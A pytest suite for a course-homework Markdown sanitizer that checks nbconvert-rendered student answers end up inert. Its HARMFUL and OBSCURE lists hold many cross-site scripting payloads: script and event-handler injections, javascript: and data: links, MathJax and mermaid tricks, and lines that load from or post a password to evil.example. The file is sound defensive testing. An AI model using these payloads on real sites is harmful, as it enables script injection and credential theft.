"""Written answers stay readable, and nothing in them runs, loads or leads astray where a person opens them."""

import html
import random
import re
from html.parser import HTMLParser

import pytest
from nbconvert.filters import markdown2html

from course.homework.cleaning import (
    MOST_OPENERS,
    clean_markdown,
    clean_text,
    few_empty_lines,
    hazard,
    is_strange,
    plain,
)

ELEMENTS = {"p", "a", "em", "strong", "del", "code", "pre", "span", "div", "br", "hr", "ul", "ol", "li", "dl", "dt"}
ELEMENTS |= {"dd", "blockquote", "h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td"}
COMMANDS = re.compile(r"\\(href|url|style|class|cssId|data|require|mmlToken|bbox|html\w*|includegraphics)(?![A-Za-z])")


class Finder(HTMLParser):
    """Collects what is active in a page: elements, attributes and addresses that Markdown itself does not make."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found, self.code = [], 0

    def handle_starttag(self, tag, attrs):
        self.code += tag in ("code", "pre")
        values = dict(attrs)
        if tag == "input" and values.pop("type", "") == "checkbox" and "disabled" in values:
            return  # a list of tasks: Markdown's own
        if tag not in ELEMENTS or "mermaid" in (values.get("class") or "").lower():
            self.found.append(tag)
        for name, value in attrs:
            value = html.unescape(value or "")
            if name == "href":
                self.found += [] if re.match(r"https?://|mailto:|#", value, re.IGNORECASE) else [value]
            elif name == "style":
                self.found += [] if re.fullmatch(r"text-align: ?(left|right|center)", value) else [value]
            elif name not in ("class", "id", "title", "start"):
                self.found.append(name)

    def handle_endtag(self, tag):
        self.code -= tag in ("code", "pre")

    def handle_data(self, data):
        self.found += COMMANDS.findall(data) if not self.code else []

    def handle_comment(self, data):
        self.found.append("comment")

    def handle_decl(self, decl):
        self.found.append("declaration")

    def unknown_decl(self, data):
        self.found.append("declaration")

    def handle_pi(self, data):
        self.found.append("instruction")


def active(text: str) -> list[str]:
    """What is active in a text once nbconvert has rendered it, as nbgrader's page does."""
    try:
        page = markdown2html(text)
    except Exception as error:
        return [f"the page fails: {error}"]
    finder = Finder()
    finder.feed(page)
    finder.close()
    return finder.found


HARMFUL = [
    "<script>alert(1)</script>",
    "Some text <script src=//evil.example/x.js></script> goes on",
    "<SCRIPT >alert(1)</SCRIPT\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=javascript:alert(1)>",
    "text <img src='https://evil.example/pixel.gif' width=1>",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mi xlink:href='data:x,<script>alert(1)</script>'>x</mi></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<style>body{display:none}</style>",
    "<p style='position:fixed;inset:0'>covers the page</p>",
    "<div onclick=alert(1)>x</div>",
    "<body onload=alert(1)>",
    "<form action=https://evil.example><input name=password><button>OK</button></form>",
    "<textarea autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<a href=javascript:alert(1)>x</a>",
    "<!-- a comment --><marquee>x</marquee>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<?php echo 1 ?>",
    "<!DOCTYPE html>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "> <script>alert(1)</script>",
    "- a\n\n  <script>alert(1)</script>",
    "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | b |",
    "# Title <img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](\tjavascript:alert(1))",
    "[x](\njavascript:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](vbscript:msgbox)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](\\\\evil.example\\share)",
    "[x]( javascript:alert(1) 'title')",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[x]\n\n[x]: javascript:alert(1)",
    "[x][1]\n\n[1]:\n  javascript:alert(1)",
    "[x][1]\n\n[1]: <javascript:alert(1)>",
    "> [x][1]\n>\n> [1]: data:text/html,x",
    "[x][1]\n\n   [1]: jav&#x09;ascript:alert(1)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "<vbscript:msgbox>",
    "![x](https://evil.example/pixel.gif)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,%3Csvg%20onload=alert(1)%3E)",
    "![x](attachment:missing.png)",
    "![x][1]\n\n[1]: https://evil.example/pixel.gif",
    "![x]\n\n[x]: https://evil.example/pixel.gif",
    "[![x](https://evil.example/pixel.gif)](https://evil.example)",
    "```mermaid\n<img src=x onerror=alert(1)>\n```",
    '~~~ mermaid\ngraph TD; A-->B; click A href "javascript:alert(1)"\n~~~',
    "- ```mermaid\n  <img src=x onerror=alert(1)>\n  ```",
    "> ~~~mermaidx\n> <script>alert(1)</script>\n> ~~~",
    "``` \\mermaid\nx\n```\n\n```mermaid x\n<b>\n```",
    r"$\href{javascript:alert(1)}{x}$",
    r"$$\style{background:url(https://evil.example)}{x}$$",
    r"\begin{align}\class{btn}{x} \cssId{submit}{y}\end{align}",
    r"$\mmlToken{mi}[href=javascript:alert(1)]{x}$ and $\bbox[url(x)]{y}$",
    r"$\require{html}\let\x\href \x{javascript:alert(1)}{y}$",
    r"$\htmlData{x=y}{z} \includegraphics{https://evil.example/x.png} \url{javascript:alert(1)}$",
]

# Harmless as nbconvert stands, or not looked at by html.parser; another renderer may think otherwise.
OBSCURE = [
    "<img/src=x/onerror=alert(1)>",
    "`<script>alert(1)</script>",
    "``<img src=x onerror=alert(1)>`",
    "```\n<script>alert(1)</script>",
    "    <script>alert(1)</script>",
    "$<img src=x onerror=alert(1)>$",
    "$$\n<script>alert(1)</script>\n$$",
    "\\(<script>alert(1)</script>\\)",
    "\\begin{a}<script>alert(1)</script>\\end{a}",
    "<\\script>alert(1)</script>",
    "\\<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<\nscript>alert(1)</script>",
    "< script>alert(1)</script>",
    "<\x00script>alert(1)</script>",
    "<\u200bscript>",
    "＜script＞alert(1)＜/script＞",
    "<https://x/onmouseover=alert(1)>",
    "<<https://x.example>script>alert(1)</script>",
    '<https://x.example/"onmouseover="alert(1)>',
    '[x](https://x.example "a\\" onmouseover=alert(1) x=\\"")',
    '[x](https://x.example/"onmouseover="alert(1))',
    "[a](https://x [b](javascript:alert(1)))",
    "[x](java\tscript:alert(1))",
    "[x] (javascript:alert(1))",
    "[x](javascript%3Aalert(1))",
    "https://x.example/<script>alert(1)</script>",
    "[x](mailto:a@b.c?body=<script>)",
    "~~~\n```mermaid\n~~~",
    "```&#109;ermaid\n<img src=x onerror=alert(1)>\n```",
    "```js mermaid\n<b>\n```",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "term\n: <img src=x onerror=alert(1)>",
    "*[HTML]: <script>alert(1)</script>",
    "- [ ] <input onfocus=alert(1) autofocus>",
]


@pytest.mark.parametrize("text", HARMFUL)
def test_what_is_active_without_cleaning_is_inert_with_it(text):
    assert active(text), "this payload shows nothing"
    assert active(clean_markdown(text)) == []


@pytest.mark.parametrize("text", HARMFUL)
def test_what_was_made_inert_is_told(text):
    assert hazard(text)
    assert hazard(text).isprintable()


@pytest.mark.parametrize("text", OBSCURE)
def test_what_another_renderer_might_take_as_active_is_inert(text):
    cleaned = clean_markdown(text)
    assert active(cleaned) == []
    assert not re.search(r"<[A-Za-z/!?]", cleaned)


def test_random_mixtures_are_inert_and_cleaning_twice_changes_nothing():
    rng = random.Random(0)
    parts = ["<", ">", "!", "[", "]", "(", ")", ":", "`", "```", "~~~", "\n", "\n\n", " ", "\\", "$", "&lt;", "a", "|"]
    parts += ["javascript:", "https://", "mailto:", "script", "img src=x ", "mermaid", "data:,", "href{", "#", "&#58;"]
    parts += ["> ", "- ", "<!--", "-->", "\t", "\r\n", "onerror=x ", "'", '"', "*", "https://x.example>", "@b.c>"]
    for seed in range(1500):
        text = "".join(rng.choice(parts) for _ in range(rng.randint(2, 25)))
        cleaned = clean_markdown(text)
        assert active(cleaned) == [], (seed, text)
        assert clean_markdown(cleaned) == cleaned, (seed, text)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("It holds if $a < b$ and $b<c$.", "It holds if $a < b$ and $b< c$."),
        ("$$x<y!$$", "$$x< y!$$"),
        ("$n! \\cdot f[i] (x) \\le 2$", "$n! \\cdot f[i] (x) \\le 2$"),
        ("**bold** `code` [a](https://x.example/b?c=d#e) [m](mailto:a@b.c) [h](#here)", None),
        ("[a][1]\n\n[1]: https://x.example 'title'", None),
        ("1. one\n2. two\n\n> quote\n\n---\n\n| a | b |\n|---|:-:|\n| 1 | 2 |", None),
        ("```python\nif a > b:\n    f(x)\n```", None),
        ("```\nx\n```\n~~~\ny\n~~~\n~~gone~~ and ```` a``b ````", None),
        (r"$\frac{a}{b} \text{ if } \mathbb{E}[x] \classical \urls$", None),
        ("\\begin{align}\na &= b \\\\\n&\\le c\n\\end{align}", None),
        ("<https://x.example> and <a@b.org>", "https://x.example and a@b.org"),
        ("Größe: 5 → 6, 日本語, שלום", None),
    ],
)
def test_mathematics_and_markdown_stay_readable(text, shown):
    assert clean_markdown(text) == (shown or text)
    assert hazard(text) == ""


def test_links_that_are_allowed_still_lead_there():
    page = markdown2html(clean_markdown("[a](https://x.example) [b](mailto:c@d.e) [c](#f) <https://y.example>"))
    assert re.findall(r'href="([^"]*)"', page) == ["https://x.example", "mailto:c@d.e", "#f", "https://y.example"]


def test_code_and_mathematics_are_shown_as_they_were_meant():
    page = markdown2html(clean_markdown("`a<b` and $x<y$"))
    assert html.unescape(page) == "<p><code>a< b</code> and $x< y$</p>\n"


def test_texts_that_would_hold_up_the_page_are_shortened():
    assert clean_markdown("a" + " " * 50_000 + "b") == "a" + " " * 100 + "b"
    few = "\\begin{a}" * MOST_OPENERS
    assert clean_markdown(few) == few
    assert "\\begin{" not in clean_markdown(few + "\\begin{a}")


def test_code_keeps_its_lines_and_at_most_a_hundred_empty_ones_in_a_row():
    honest = "def f():\n\n\n    x = 1  \n\n" + "\n" * 99 + "\ty\n"
    assert few_empty_lines(honest) == honest
    assert few_empty_lines("a\n    \n\t\nb") == "a\n\n\nb"
    assert few_empty_lines("a" + "\n \u2003" * 50_000 + "\n  b") == "a" + "\n" * 101 + "  b"
    assert few_empty_lines(" " * 100_000) == " " * 100_000


def test_strange_characters_are_escaped_for_messages_and_replaced_in_texts():
    assert plain("a\x1b[2J\u202e\n\ud800é") == "a\\x1b[2J\\u202e\\n\\ud800é"
    assert clean_text("a\r\nb\rc\td\x00\ud800\u2066é") == "a\nb\nc\td\ufffd\ufffd\ufffdé"
    assert is_strange("a\nb")
    assert not is_strange("é → 日本 \u200d")
